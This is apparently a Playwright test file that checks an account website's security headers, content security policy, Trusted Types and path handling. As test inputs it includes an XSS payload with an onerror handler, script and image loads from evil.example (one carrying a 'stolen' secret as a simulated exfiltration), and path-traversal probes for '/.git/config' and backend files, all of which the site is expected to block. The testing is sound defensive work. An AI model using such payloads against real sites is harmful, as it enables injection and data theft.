import { randomUUID } from 'node:crypto'
import { accountOrigin, apiOrigin, remotesOrigin, shopOrigin, sitePort } from '../../site/addresses.ts'
import { nodeRequest } from '../../site/node-request.ts'
import { openOperations } from '../../site/open-operations.ts'
import { expect, test } from '../../site/test.ts'

const account = accountOrigin('uk')

const breaches = `${apiOrigin}/reports/policy-breaches`

/** The first script and the first style sheet that the account page names. */
const filesOfPage = async () => {
  const { body } = await nodeRequest(`${account}/`)
  return ['js', 'css'].flatMap((kind) => new RegExp(`/assets/[^"'> ]+\\.${kind}`).exec(body)?.[0] ?? [])
}

const directivesOf = (policy: unknown) =>
  new Map(
    String(policy)
      .split(';')
      .map((directive) => directive.trim().split(' '))
      .map(([name = '', ...sources]) => [name, sources]),
  )

const expectCommonHeaders = (path: string, headers: Record<string, unknown>) => {
  expect([path, headers]).toEqual([
    path,
    expect.objectContaining({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
    }),
  ])
  expect(headers['permissions-policy']).toContain('camera=()')
  const policy = directivesOf(headers['content-security-policy'])
  for (const name of ['default-src', 'object-src', 'base-uri'])
    expect([path, policy.get(name)]).toEqual([path, ["'none'"]])
  return policy
}

test('every document of the account site has the security headers, and its policy lists what it may load', async () => {
  for (const path of ['/', '/orders', '/no-such-page']) {
    const { headers, status } = await nodeRequest(`${account}${path}`, { headers: { accept: 'text/html' } })
    expect([path, status]).toEqual([path, 200])
    const policy = expectCommonHeaders(path, headers)
    expect(policy.get('frame-ancestors')).toContain("'self'")
    expect(policy.get('require-trusted-types-for')).toEqual(["'script'"])
    expect(policy.get('trusted-types')).toEqual(['default'])
    // The hashes of the script for unsupported browsers and of the preload script. No other inline script runs.
    expect(policy.get('script-src')?.filter((source) => source.startsWith("'sha256-"))).toHaveLength(2)
    for (const name of ['script-src', 'connect-src', 'frame-ancestors'])
      for (const source of policy.get(name) ?? []) expect(source).not.toMatch(/^\*$|^https?:$|unsafe|^data:/)
  }
})

test('every file and error of the account site has the security headers, and no page can frame it', async () => {
  const paths = ['/config.json', '/locales/en-GB.json', '/embed.js', '/no-such-file.js', ...(await filesOfPage())]
  expect(paths.length).toBeGreaterThan(5)
  for (const path of paths) {
    const { headers, status } = await nodeRequest(`${account}${path}`)
    expect([path, status]).toEqual([path, path.includes('no-such') ? 404 : 200])
    const policy = expectCommonHeaders(path, headers)
    if (status === 200) expect(policy.get('frame-ancestors')).toEqual(["'none'"])
  }
})

test('the page preloads configuration, registry and its font, and each is requested once', async ({ page }) => {
  const first = [`${account}/config.json`, `${remotesOrigin}/registry.json`]
  for (const path of ['/', '/orders']) {
    const { link } = (await nodeRequest(`${account}${path}`)).headers
    const preloads = first.map((address) => `<${address}>; rel=preload; as=fetch; crossorigin`)
    expect(link).toBe([...preloads, `<${apiOrigin}>; rel=preconnect; crossorigin`].join(', '))
  }
  const asked: string[] = []
  const fonts: string[] = []
  page.on('request', (request) => {
    asked.push(request.url())
    if (request.resourceType() === 'font') fonts.push(request.url())
  })
  await page.goto('/account-deleted')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.evaluate(() => document.fonts.ready)
  expect(asked.filter((address) => first.includes(address)).toSorted()).toEqual(first)
  expect(fonts).toEqual([expect.stringMatching(/\/inter-latin-wght-normal\.\w+\.woff2$/)])
  for (const preloaded of [`${account}/config.json`, ...fonts]) {
    const initiator = await page.evaluate(
      (address) => (performance.getEntriesByName(address)[0] as PerformanceResourceTiming).initiatorType,
      preloaded,
    )
    expect([preloaded, initiator]).toEqual([preloaded, 'link'])
  }
})

test('every start script is marked for compilation on arrival', async () => {
  const page = await nodeRequest(`${account}/`)
  const scripts = [...page.body.matchAll(/\/assets\/[\w.]+\.js/g)].map(([file]) => file)
  // The early script runs at once and is not marked.
  const files = scripts.filter((file) => !file.includes('/early.'))
  expect(files.length).toBeGreaterThan(4)
  for (const file of files) {
    const script = await nodeRequest(`${account}${file}`)
    expect([file, script.body.slice(0, 28)]).toEqual([file, '//# allFunctionsCalledOnLoad'])
  }
})

test('the origin of the site serves the API by token only, and nothing else of the back end', async () => {
  const { status, headers } = await nodeRequest(`${account}/api/photos/users`)
  expect(status).toBe(401)
  expect(headers['content-type']).toContain('application/json')
  for (const path of [
    'metrics',
    'photos/../metrics',
    'photos/%2e%2e/metrics',
    'objects/a.jpg',
    'openapi.json',
    'ready',
  ])
    expect([path, (await nodeRequest(`${account}/api/${path}`)).status]).toEqual([path, 404])
})

test('a page whose address holds a mailed token sends no referrer', async () => {
  for (const path of ['/delete-account-confirmation?confirmation-token=x', '/settings?a=b&confirmation-token=x'])
    expect((await nodeRequest(`${account}${path}`)).headers['referrer-policy']).toBe('no-referrer')
})

test.describe('injected code', () => {
  test.use({ expectsPageErrors: true })

  test('creates no script from a foreign address or text, and no markup', async ({ page }) => {
    await page.goto('/account-deleted')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const outcomes = await page.evaluate((remotes) => {
      const refusalOf = (act: () => unknown) => {
        try {
          return String(act())
        } catch (error) {
          return error instanceof Error ? error.name : String(error)
        }
      }
      const script = () => document.createElement('script')
      return {
        otherSite: refusalOf(() => (script().src = 'https://evil.example/assets/1.js')),
        otherPath: refusalOf(() => (script().src = '/orders/1.js')),
        unpublished: refusalOf(() => (script().src = `${remotes}/photos/0.0.0/evil.js`)),
        text: refusalOf(() => (script().text = 'document.title = "evil"')),
        markUp: refusalOf(() => (document.body.innerHTML = '<img src="x" onerror="alert(1)">')),
        own: refusalOf(() => (script().src = '/assets/1.js')),
      }
    }, remotesOrigin)
    expect(outcomes).toEqual({
      otherSite: 'MissingIntegrityError',
      otherPath: 'MissingIntegrityError',
      unpublished: 'MissingIntegrityError',
      text: 'TypeError',
      markUp: 'TypeError',
      own: '/assets/1.js',
    })
  })
})

test('every content security policy has a report address', async () => {
  const addresses = [
    `${account}/orders`,
    `${account}/no-such-file.js`,
    `${remotesOrigin}/registry.json`,
    `${shopOrigin('uk')}/`,
    `http://login.uk.localhost:${sitePort}/interaction/none`,
    `http://login.uk.localhost:${sitePort}/no-such-page`,
  ]
  for (const address of addresses) {
    const { headers } = await nodeRequest(address)
    const policy = directivesOf(headers['content-security-policy'])
    expect([address, policy.get('report-uri')]).toEqual([address, [breaches]])
  }
})

test.describe('a page that violates its policy', () => {
  test.use({ expectsPageErrors: true })

  test('is reported by the browser, without secrets of its address', async ({ page }) => {
    await page.goto('/account-deleted?confirmation-token=very-secret')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const image = `https://evil.example/${randomUUID()}.png`
    await page.evaluate((address) => {
      document.createElement('img').src = address
    }, `${image}?stolen=very-secret`)
    await expect(async () => {
      await openOperations(page, { source: new URL(account).host })
      await expect(page.getByText(image)).toBeAttached({ timeout: 1_000 })
    }).toPass()
    const report = page.getByRole('list', { name: 'Failed actions' }).getByRole('listitem').filter({ hasText: image })
    await report.locator('summary').click()
    await expect(report).toContainText('policy/breach')
    await expect(report).toContainText('img-src')
    await expect(report).toContainText('/account-deleted')
    expect(await report.innerText()).not.toContain('very-secret')
  })
})

test('mutable files are revalidated, and files with a content hash are immutable', async () => {
  const cacheOf = async (address: string) => (await nodeRequest(address)).headers['cache-control']
  for (const path of ['/', '/orders', '/config.json'])
    expect([path, await cacheOf(`${account}${path}`)]).toEqual([path, 'no-cache'])
  expect(await cacheOf(`${remotesOrigin}/registry.json`)).toBe('no-cache')
  const files = await filesOfPage()
  expect(files).toHaveLength(2)
  for (const path of files) expect(await cacheOf(`${account}${path}`)).toContain('immutable')
})

test('remotes and the API are not served as pages and set no cookies', async () => {
  const { headers } = await nodeRequest(`${remotesOrigin}/registry.json`)
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'access-control-allow-origin': '*',
    'content-security-policy': expect.stringContaining("default-src 'none'"),
  })
  for (const path of ['/openapi.json', '/photos/users', '/no-such-thing']) {
    const found = await nodeRequest(`${apiOrigin}${path}`, { headers: { origin: 'http://evil.example' } })
    expect(found.headers['x-content-type-options']).toBe('nosniff')
    expect(found.headers['x-correlation-id']).toMatch(/^[0-9a-f-]{36}$/)
    for (const name of [
      'access-control-allow-origin',
      'access-control-allow-credentials',
      'set-cookie',
      'x-powered-by',
    ])
      expect([path, name, found.headers[name]]).toEqual([path, name, undefined])
    if (path !== '/no-such-thing') expect(found.headers['content-security-policy']).toContain("default-src 'none'")
  }
})

test('internal addresses respond with errors to customers', async () => {
  expect((await nodeRequest(`${apiOrigin}/metrics`)).status).toBe(404)
  for (const path of [
    '/.lock',
    '/.git/config',
    '/%2e%2e%2fbackend.pid',
    '/..%2fbackend.pid',
    '/photos/../../backend.pid',
  ])
    expect([400, 403, 404]).toContain((await nodeRequest(`${remotesOrigin}${path}`)).status)
})
